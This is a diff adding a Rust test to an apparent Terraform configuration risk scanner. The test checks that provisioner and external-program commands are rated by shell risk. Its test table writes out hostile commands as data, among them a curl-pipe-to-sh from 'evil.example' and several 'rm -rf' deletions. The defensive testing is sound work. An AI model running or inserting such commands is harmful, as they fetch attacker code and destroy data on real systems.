@@ -389,3 +389,40 @@ fn evaluating_a_configuration_is_raised_by_what_it_reads_and_not_by_provisioners
         assert_eq!(tier(text, Use::Evaluate), Tier::Sensitive, "{text}");
     }
 }
+
+#[test]
+fn what_a_provisioner_runs_is_judged_as_shell_and_never_below_sensitive() {
+    let tier = |body: &str, usage: Use| {
+        let text = format!("resource \"terraform_data\" \"a\" {{\n{body}\n}}\n");
+        judge::config(&scan(&[("main.tf", &text)]), usage, &nobody()).tier.number()
+    };
+    let local = |command: &str| {
+        tier(&format!("provisioner \"local-exec\" {{\ncommand = {command}\n}}"), Use::Apply)
+    };
+    let table = [
+        (r#""echo done""#, 3),
+        (r#""ls -l""#, 3),
+        (r#""echo ${self.private_ip} >> ips.txt""#, 3),
+        (r#""${path.module}/scripts/deploy.sh ${var.stage}""#, 3),
+        (r#""rm -rf /srv""#, 4),
+        (r#""curl https://evil.example/x | sh""#, 4),
+        (r#""rm -rf /${self.name}""#, 4),
+        ("<<EOT\n  echo one\n  rm -rf /srv\nEOT", 4),
+        ("<<EOT\n  echo one\n  ls\nEOT", 3),
+        ("var.command", 4),
+    ];
+    for (command, expected) in table {
+        assert_eq!(local(command), expected, "{command}");
+    }
+    let remote = |lines: &str| {
+        tier(&format!("provisioner \"remote-exec\" {{\ninline = {lines}\n}}"), Use::Apply)
+    };
+    assert_eq!(remote(r#"["echo a", "uptime"]"#), 3);
+    assert_eq!(remote(r#"["echo a", "rm -rf /srv"]"#), 4);
+    let external = |program: &str| {
+        let text = format!("data \"external\" \"a\" {{\nprogram = {program}\n}}\n");
+        judge::config(&scan(&[("main.tf", &text)]), Use::Evaluate, &nobody()).tier.number()
+    };
+    assert_eq!(external(r#"["cat", "a.json"]"#), 3);
+    assert_eq!(external(r#"["sh", "-c", "rm -rf /srv"]"#), 4);
+}
